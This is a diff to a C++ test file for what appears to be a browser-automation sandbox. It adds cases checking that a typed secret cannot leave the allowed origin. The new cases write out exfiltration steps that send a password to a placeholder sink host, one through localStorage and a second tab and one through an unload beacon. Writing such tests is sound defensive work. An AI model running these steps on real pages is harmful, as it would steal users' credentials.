@@ -16,7 +16,9 @@
 //     to an address it looks nothing up, and a name's lookup cannot be seen without a resolver of
 //     the test's own);
 //   * a typed secret (`--secret`): read back from the field it was typed into by the page's own
-//     poller and sent elsewhere, or typed into a third-party sign-in frame on the allowed page;
+//     poller and sent elsewhere, kept in the origin's storage and sent by another tab of it, sent
+//     by the page's unload beacon as the run takes the tab elsewhere, or typed into a third-party
+//     sign-in frame on the allowed page;
 //   * writes: purchases on the allowed site arranged through the page's own code (its buy(), a
 //     handler attribute, requestSubmit(), a timer that fires after the action, the poller turned
 //     into an order, timers after setFinal).
@@ -233,6 +235,19 @@ std::vector<Group> groups() {
                     .repl = "await type(t, '#q', secret('bank_pw'))",
                     .page = secret_poller("'{{CDN}}/sink/{{M}}?d=' + [...document.getElementById('q').value].reverse().join('')"),
                     .flags_done = true,
+                    .evidence = Evidence::Cdn},
+                   // The secret's rule holds for its origin, not for one page of one tab.
+                   {.name = "a typed secret, kept in the origin's storage and sent by a new tab of it",
+                    .repl = "await type(t, '#q', secret('bank_pw')); "
+                            "await execInTab(t, \"localStorage.setItem('k{{M}}', document.getElementById('q').value); 1\"); "
+                            "const t2 = await openTab('{{V}}/'); "
+                            "await execInTab(t2, \"fetch('{{CDN}}/sink/{{M}}?d=' + localStorage.getItem('k{{M}}'), {mode: 'no-cors'}).then(() => 1, () => 1)\")",
+                    .evidence = Evidence::Cdn},
+                   {.name = "a typed secret, in the page's unload beacon when the run takes the tab elsewhere",
+                    .repl = "await type(t, '#q', secret('bank_pw')); "
+                            "await execInTab(t, \"addEventListener('pagehide', () => navigator.sendBeacon('{{CDN}}/sink/{{M}}', "
+                            "document.getElementById('q').value)); 1\"); "
+                            "await navigate(t, '{{CDN}}/')",
                     .evidence = Evidence::Cdn},
                    {.name = "a secret typed into a third-party sign-in frame",
                     .repl = "const r = (await find(t, 'Partner password'))[0].ref; await type(t, r, secret('bank_pw'))",
